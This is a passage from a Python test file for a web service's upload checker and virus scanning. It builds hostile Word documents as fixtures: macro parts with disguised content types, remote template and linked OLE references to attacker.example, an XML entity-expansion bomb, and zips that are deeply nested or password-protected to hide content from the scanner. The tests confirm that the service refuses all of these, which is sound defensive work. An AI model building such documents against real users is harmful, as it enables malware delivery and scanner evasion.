            "word/document.xml": b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
            **(parts or {}),
        }
    )


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64
HIDDEN_OFFICE = {
    "macro part type written with a character reference": word(
        '<Override PartName="/word/payload.dat" ContentType="application/vnd.ms-office.vba&#80;roject"/>',
        {"word/payload.dat": OLE},
    ),
    "macro part type by extension, hex character reference": word(
        '<Default Extension="dat" ContentType="application/vnd.ms-office.&#x76;baProject"/>',
        {"word/payload.dat": OLE},
    ),
    "macro-enabled main part written with a character reference": word(
        main="application/vnd.ms-word.document.macro&#69;nabled.main+xml"
    ),
    "vbaProject relationship to an oddly named part": word(
        parts={
            "word/_rels/document.xml.rels": rels(
                ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "payload.dat", "")
            ),
            "word/payload.dat": OLE,
        }
    ),
    "external attached template": word(
        parts={
            "word/settings.xml": b"<w:settings><w:attachedTemplate r:id='rId1'/></w:settings>",
            "word/_rels/settings.xml.rels": rels(
                (f"{RELATIONSHIPS}/attachedTemplate", "https://attacker.example/t.dotm", "External")
            ),
        }
    ),
    "external attached template, type written with a character reference": word(
        parts={
            "word/_rels/settings.xml.rels": rels(
                (f"{RELATIONSHIPS}/attached&#84;emplate", "\\\\attacker.example\\share\\t.dotm", "External")
            ),
        }
    ),
    "external template under another relationship type": word(
        parts={
            "word/_rels/document.xml.rels": rels(
                ("http://example.com/relationships/custom", "https://attacker.example/t.dotm?v=1", "External")
            ),
        }
    ),
    "embedded OLE object": word(
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        {
            "word/_rels/document.xml.rels": rels((f"{RELATIONSHIPS}/oleObject", "embeddings/oleObject1.bin", "")),
            "word/embeddings/oleObject1.bin": OLE,
        },
    ),
    "linked OLE object": word(
        parts={
            "word/_rels/document.xml.rels": rels(
                (f"{RELATIONSHIPS}/oleObject", "file:///\\\\attacker.example\\x.xls", "External")
            ),
        }
    ),
    "an embedded part with no relationship": word(parts={"word/embeddings/package.bin": OLE}),
}


@pytest.mark.parametrize("name", list(HIDDEN_OFFICE))
def test_office_active_content_is_found_however_it_is_declared(name):
    assert refused(HIDDEN_OFFICE[name], uploads.DOCUMENTS, filename="plan.docx") == uploads.MACROS


def test_office_parts_that_declare_entities_are_refused():
    bomb = word(
        parts={
            "word/_rels/document.xml.rels": b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="&b;" Target="x"/></Relationships>'
        }
    )
    assert refused(bomb, uploads.DOCUMENTS) == uploads.DAMAGED
    assert refused(word(parts={"word/_rels/document.xml.rels": b"<Relationships"}), uploads.DOCUMENTS) == (
        uploads.DAMAGED
    )


def test_ordinary_office_documents_with_links_and_templates_inside_are_accepted():
    linked = word(
        parts={
            "word/_rels/document.xml.rels": rels(
                (f"{RELATIONSHIPS}/hyperlink", "https://www.gov.uk/", "External"),
                (f"{RELATIONSHIPS}/styles", "styles.xml", ""),
                (f"{RELATIONSHIPS}/image", "media/image1.png", ""),
            ),
            "word/styles.xml": b"<w:styles/>",
            "word/media/image1.png": PNG,
        }
    )
    assert uploads.check_upload(linked, {"docx"}, limit_bytes=LIMIT).file_type == "docx"
    assert uploads.check_upload(xlsx(), {"xlsx"}, limit_bytes=LIMIT).file_type == "xlsx"


# -- K6: what the scanner cannot see into is refused, not passed as clean -----------------------------


def nested_zip(depth: int, payload: bytes) -> bytes:
    content = payload
    for level in range(depth):
        content = zip_bytes({f"level{level}.zip" if level else "payload.txt": content})
    return content


def _zipcrypto(password: bytes, data: bytes) -> bytes:
    """Traditional PKWARE encryption (APPNOTE 6.1), the 'password-protected zip' of every tool."""

    def crc(value: int, byte: int) -> int:
        return zlib.crc32(bytes([byte]), value ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte: int) -> None:
        keys[0] = crc(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc(keys[2], keys[1] >> 24)

    for byte in password:
        update(byte)
    out = bytearray()
    for byte in data:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        update(byte)
    return bytes(out)


def encrypted_zip(name: bytes, plaintext: bytes, password: bytes) -> bytes:
    """A zip of one stored entry, password-protected, its headers written by hand (zipfile cannot)."""
    crc = zlib.crc32(plaintext)
    data = _zipcrypto(password, bytes(11) + bytes([crc >> 24]) + plaintext)
    sizes = (crc, len(data), len(plaintext), len(name))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0x1, 0, 0, 0x21, *sizes, 0) + name + data
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0x1, 0, 0, 0x21, *sizes, 0, 0, 0, 0, 0, 0)
    central += name
    return local + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local), 0)


def test_the_hand_made_encrypted_zip_is_a_real_one():
    archive = zipfile.ZipFile(io.BytesIO(encrypted_zip(b"payload.txt", INFECTED_MARKER, b"secret")))
    assert archive.infolist()[0].flag_bits & 0x1
    assert archive.read("payload.txt", pwd=b"secret") == INFECTED_MARKER


UNSEEN = {
    "20 zip levels deep": docx({"word/media/archive.zip": nested_zip(20, INFECTED_MARKER)}),
    "in a password-protected zip": docx(
        {"word/media/archive.zip": encrypted_zip(b"payload.txt", INFECTED_MARKER, b"secret")}
    ),
}


@needs_clamscan
@pytest.mark.parametrize("name", list(UNSEEN))
def test_malware_where_the_scanner_does_not_look_is_not_clean(name):
    content = UNSEEN[name]
    assert uploads.check_upload(content, {"docx"}, limit_bytes=LIMIT).file_type == "docx"
    result = scanning.clamscan_sync(content, database=str(SIGNATURES))
    assert result.status == scanning.INFECTED and result.signature.startswith("Heuristics.")
    assert result.message == scanning.UNCHECKABLE_MESSAGE
    shallow = docx({"word/media/archive.zip": nested_zip(3, INFECTED_MARKER)})
    found = scanning.clamscan_sync(shallow, database=str(SIGNATURES))
    assert found.signature == "Tracker.Test.UploadMarker.UNOFFICIAL" and found.message == scanning.INFECTED_MESSAGE


DOCUMENT_KINDS = [kind for kind in KINDS if kind.good.startswith(b"%PDF")]


@needs_clamscan
@pytest.mark.parametrize("name", list(UNSEEN))
@pytest.mark.parametrize("kind", DOCUMENT_KINDS, ids=[k.name for k in DOCUMENT_KINDS])
def test_a_file_the_scanner_cannot_see_into_is_refused_and_not_kept(client, kind, name):
    ctx = kind.setup()
    sign_in(client, kind.uploader)
    response = kind.upload(client, ctx, UNSEEN[name], "plan.docx")
    assert response.status_code == 200 and "govuk-error-summary" in response.text
    assert scanning.UNCHECKABLE_MESSAGE in response.text
    assert not any(UNSEEN[name] == content for content in kind.stored(ctx))
    client.cookies.clear()
    sign_in(client, kind.reader)
    assert UNSEEN[name] != client.get(kind.url(ctx)).content
